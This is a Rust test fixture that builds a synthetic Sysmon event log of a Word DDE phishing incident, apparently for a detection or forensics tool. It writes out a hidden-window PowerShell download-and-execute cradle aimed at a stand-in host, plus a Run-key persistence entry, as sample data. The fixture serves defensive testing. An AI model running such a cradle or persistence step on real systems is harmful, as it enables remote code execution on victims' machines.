//! The EVTX fixture of a whole DDE incident as Sysmon logs it: an e-mail attachment saved by
//! Outlook, opened by Word, whose DDE field starts cmd.exe, which starts PowerShell that
//! resolves, connects, drops a program, makes it persistent (a Run key) and starts it; plus
//! unrelated processes and queries that belong to no tree.

use crate::evtx::EvtxEvent;
use crate::evtx_events::*;
use crate::evtx_positive::log;

/// Dave's account name.
pub const DAVE: &str = "CORP\\dave";
/// Dave's SID.
pub const DAVE_SID: &str = "S-1-5-21-1111111111-2222222222-3333333333-1107";
/// The attachment as Outlook saved it.
pub const ATTACHMENT: &str = r"C:\Users\dave\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q3ZK81PD\Remittance_May.docx";
/// The download cradle cmd.exe runs.
pub const CMD_CRADLE: &str = r"cmd.exe /c powershell -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://remit-portal.example/a.ps1')";
/// PowerShell's command line.
pub const PS_CRADLE: &str = r"powershell  -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://remit-portal.example/a.ps1')";
/// The dropped program.
pub const REMITSYNC: &str = r"C:\Users\dave\AppData\Roaming\RemitSync\remitsync.exe";
/// PowerShell.
pub const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

/// `sysmon-office-tree.evtx`: all dave's, one second apart; GUID seeds in brackets.
///
/// | id | event |
/// |----|-------|
/// | 1 | Sysmon 1: explorer.exe (1990, 0xC00) -> OUTLOOK.EXE (2980, 0xC01) |
/// | 2 | Sysmon 11: OUTLOOK.EXE saves `...\Content.Outlook\Q3ZK81PD\Remittance_May.docx` |
/// | 3 | Sysmon 1: OUTLOOK.EXE -> WINWORD.EXE (4510, 0xC02, "A") opening it |
/// | 4 | Sysmon 1: WINWORD.EXE -> cmd.exe (5230, 0xC03, "B") [`CMD_CRADLE`] |
/// | 5 | Sysmon 1: cmd.exe -> powershell.exe (6120, 0xC04, "C") [`PS_CRADLE`] |
/// | 6 | Sysmon 22: powershell.exe resolves remit-portal.example to `::ffff:203.0.113.77;` |
/// | 7 | Sysmon 3: powershell.exe connects to 203.0.113.77:80 (remit-portal.example) |
/// | 8 | Sysmon 11: powershell.exe creates [`REMITSYNC`] |
/// | 9 | Sysmon 13: powershell.exe sets `HKU\<dave>\...\CurrentVersion\Run\RemitSync` |
/// | 10 | Sysmon 1: powershell.exe -> remitsync.exe (6644, 0xC05, "D") |
/// | 11 | Sysmon 1: explorer.exe -> notepad.exe (7012, 0xC06) (noise) |
/// | 12 | Sysmon 22: chrome.exe (7300, 0xC07) resolves www.example.com (noise) |
pub fn sysmon_office_tree() -> Vec<u8> {
    const EXPLORER_D: Proc<'static> =
        Proc::new(EXPLORER, "C:\\Windows\\Explorer.EXE", 1990, 0xc00).as_user(DAVE);
    const OUTLOOK_D: Proc<'static> = Proc::new(
        OUTLOOK,
        r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE""#,
        2980,
        0xc01,
    )
    .as_user(DAVE);
    let word_cmd = format!(
        r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "{ATTACHMENT}" /o """#
    );
    let word = Proc::new(WINWORD, &word_cmd, 4510, 0xc02).as_user(DAVE);
    let cmd = Proc::new(CMD, CMD_CRADLE, 5230, 0xc03).as_user(DAVE);
    let ps = Proc::new(POWERSHELL, PS_CRADLE, 6120, 0xc04).as_user(DAVE);
    let remit = Proc::new(REMITSYNC, REMITSYNC, 6644, 0xc05).as_user(DAVE);
    let notepad = Proc::new(
        r"C:\Windows\System32\notepad.exe",
        r"C:\Windows\System32\notepad.exe",
        7012,
        0xc06,
    )
    .as_user(DAVE);
    let chrome = Proc::new(
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe""#,
        7300,
        0xc07,
    )
    .as_user(DAVE);
    let conn = Conn {
        protocol: "tcp",
        source_ip: "10.0.0.31",
        source_port: 49833,
        destination_ip: "203.0.113.77",
        destination_hostname: "remit-portal.example",
        destination_port: 80,
    };
    let run_key =
        format!(r"HKU\{DAVE_SID}\Software\Microsoft\Windows\CurrentVersion\Run\RemitSync");
    let events: Vec<EvtxEvent<'static>> = vec![
        sysmon_1(1, at(0), &OUTLOOK_D, &EXPLORER_D),
        sysmon_11(2, at(1), &OUTLOOK_D, ATTACHMENT),
        sysmon_1(3, at(2), &word, &OUTLOOK_D),
        sysmon_1(4, at(3), &cmd, &word),
        sysmon_1(5, at(4), &ps, &cmd),
        sysmon_22(
            6,
            at(5),
            &ps,
            "remit-portal.example",
            "::ffff:203.0.113.77;",
        ),
        sysmon_3(7, at(6), &ps, &conn),
        sysmon_11(8, at(7), &ps, REMITSYNC),
        sysmon_13(9, at(8), &ps, &run_key, REMITSYNC),
        sysmon_1(10, at(9), &remit, &ps),
        sysmon_1(11, at(10), &notepad, &EXPLORER_D),
        sysmon_22(
            12,
            at(11),
            &chrome,
            "www.example.com",
            "::ffff:93.184.215.14;",
        ),
    ];
    log(events)
}
